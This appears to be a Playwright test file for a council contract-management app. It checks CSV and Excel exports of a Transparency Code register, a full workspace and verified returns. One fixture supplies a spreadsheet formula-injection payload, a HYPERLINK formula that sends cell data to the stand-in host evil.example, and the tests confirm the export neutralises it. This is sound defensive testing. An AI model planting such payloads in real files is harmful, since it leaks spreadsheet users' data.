// The officer exports the Transparency Code register from the Contracts list, as CSV and as
// Excel, and the whole workspace from the Council profile; the downloaded files are read back and
// checked against what the workspace holds, a formula-like supplier name included.

import { readFile } from 'node:fs/promises';
import type { Download, Page } from '@playwright/test';
import ExcelJS from 'exceljs';
import { decodeText, parseCsv } from '../../electron/excel/csv-text';
import { api, expectNoAxeViolations, open } from './app-helpers';
import { expect, test } from './fixtures';
import { readWorkspace } from './stored';

const evilName = '=HYPERLINK("http://evil.example/?"&A1,"Click")';

interface Stored {
  reference: string;
  value_pence: number;
  supplier: string;
}

const registerSql = `SELECT c.reference, c.value_pence, s.name AS supplier
  FROM contracts c JOIN suppliers s ON s.id = c.supplier_id
  WHERE c.deleted_at IS NULL AND c.value_pence > 500000 ORDER BY c.reference COLLATE NOCASE`;

/** Chooses the format in the open register panel and downloads the register. */
async function downloadRegister(page: Page, format: string): Promise<Download> {
  await page.getByRole('radio', { name: format }).check();
  const download = page.waitForEvent('download');
  await page.getByRole('button', { name: 'Download the register' }).click();
  return download;
}

test('an officer exports the contract register as CSV and as Excel', async ({ page, app }) => {
  await api(app.host, 'demo.load', {});
  const evil = await api(app.host, 'suppliers.create', { name: evilName });
  await api(app.host, 'contracts.create', {
    reference: 'ZZ-EVIL',
    title: '@SUM(A1)',
    supplierId: evil.id,
    category: 'services',
    valuePence: 2_500_000,
    startDate: '2026-04-01',
    endDate: '2027-03-31',
  });
  const stored = readWorkspace<Stored>(app.dataDir, registerSql);

  await open(page, app.host, '/contracts');
  await expect(page.getByRole('heading', { name: 'Contracts', level: 1 })).toBeVisible();
  await page.getByText('Export register (Transparency Code)').click();
  await expect(page.getByText('Every contract over £5,000')).toBeVisible();
  await expectNoAxeViolations(page);
  await page.keyboard.press('Escape');
  await expect(page.getByText('Every contract over £5,000')).toBeHidden();
  await expect(page.getByText('Export register (Transparency Code)')).toBeFocused();
  await page.keyboard.press('Enter');
  await expect(page.getByText('Every contract over £5,000')).toBeVisible();

  const csvDownload = await downloadRegister(page, 'CSV, to publish');
  expect(csvDownload.suggestedFilename()).toMatch(/^contract register \d{4}-\d{2}-\d{2}\.csv$/);
  const csv = await readFile(await csvDownload.path());
  expect([...csv.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  const [header = [], ...rows] = parseCsv(decodeText(csv).text);
  const at = (name: string) => header.indexOf(name);
  expect(header.slice(0, 4)).toEqual([
    'Organisation name',
    'Organisation Code',
    'Effective Date',
    'Contract Reference number / ID',
  ]);
  expect(rows.map((row) => row[at('Contract Reference number / ID')])).toEqual(
    stored.map((contract) => contract.reference),
  );
  expect(rows.map((row) => Math.round(Number(row[at('Contract value')]) * 100))).toEqual(
    stored.map((contract) => contract.value_pence),
  );
  const evilRow = rows.find((row) => row[at('Contract Reference number / ID')] === 'ZZ-EVIL');
  expect(evilRow?.[at('Supplier name')]).toBe(`'${evilName}`);
  expect(evilRow?.[at('Title of the Agreement')]).toBe("'@SUM(A1)");

  const xlsxDownload = await downloadRegister(page, 'Excel workbook (.xlsx)');
  expect(xlsxDownload.suggestedFilename()).toMatch(/\.xlsx$/);
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.readFile(await xlsxDownload.path());
  const sheet = workbook.getWorksheet('Contract register');
  if (!sheet) throw new Error('The workbook has no register sheet');
  expect(sheet.rowCount).toBe(stored.length + 1);
  const last = sheet.getRow(sheet.rowCount);
  expect(last.getCell(at('Contract Reference number / ID') + 1).text).toBe('ZZ-EVIL');
  const name = last.getCell(at('Supplier name') + 1);
  expect(name.text).toBe(evilName);
  expect(name.formula).toBeFalsy();
  expect(last.getCell(at('Contract value') + 1).value).toBe(25_000);
});

test('an officer exports the whole workspace from the council profile', async ({ page, app }) => {
  await api(app.host, 'demo.load', {});
  await open(page, app.host, '/profile');
  await expect(page.getByRole('heading', { name: 'Council profile' })).toBeVisible();
  const download = page.waitForEvent('download');
  await page.getByRole('button', { name: 'Export whole workspace' }).click();
  const file = await download;
  expect(file.suggestedFilename()).toMatch(/^workspace \d{4}-\d{2}-\d{2}\.xlsx$/);
  await expect(page.getByRole('button', { name: 'Export whole workspace' })).toBeVisible();

  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.readFile(await file.path());
  const tables = readWorkspace<{ name: string }>(
    app.dataDir,
    "SELECT name FROM sqlite_schema WHERE type = 'table' AND name NOT LIKE 'sqlite_%'",
  ).map((table) => table.name);
  expect(workbook.worksheets.map((sheet) => sheet.name).sort()).toEqual(
    ['Contents', ...tables].sort(),
  );
  const [contracts] = readWorkspace<{ n: number }>(
    app.dataDir,
    'SELECT count(*) AS n FROM contracts',
  );
  expect(workbook.getWorksheet('contracts')?.rowCount).toBe((contracts?.n ?? 0) + 1);
  await expectNoAxeViolations(page);
});

test('an officer exports the verified returns, as filtered, to Excel', async ({ page, app }) => {
  await api(app.host, 'demo.load', {});
  const verified = readWorkspace<{ reference: string; period_label: string }>(
    app.dataDir,
    `SELECT c.reference, r.period_label FROM returns r JOIN contracts c ON c.id = r.contract_id
     WHERE r.deleted_at IS NULL AND c.deleted_at IS NULL AND r.status = 'verified'`,
  );
  await open(page, app.host, '/returns?view=all&status=verified');
  await expect(page.locator('.list-summary')).toHaveText(`${verified.length} returns`);
  await expectNoAxeViolations(page);
  const download = page.waitForEvent('download');
  await page.getByRole('button', { name: 'Export to Excel' }).click();
  const file = await download;
  expect(file.suggestedFilename()).toMatch(/^returns \d{4}-\d{2}-\d{2}\.xlsx$/);

  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.readFile(await file.path());
  const [sheet] = workbook.worksheets;
  if (!sheet) throw new Error('The workbook has no sheet');
  const rows: string[] = [];
  sheet.eachRow((row, number) => {
    if (number > 1)
      rows.push(`${row.getCell(4).text} ${row.getCell(1).text} ${row.getCell(7).text}`);
  });
  expect(rows.sort()).toEqual(
    verified.map((r) => `${r.reference} ${r.period_label} Verified`).sort(),
  );
});
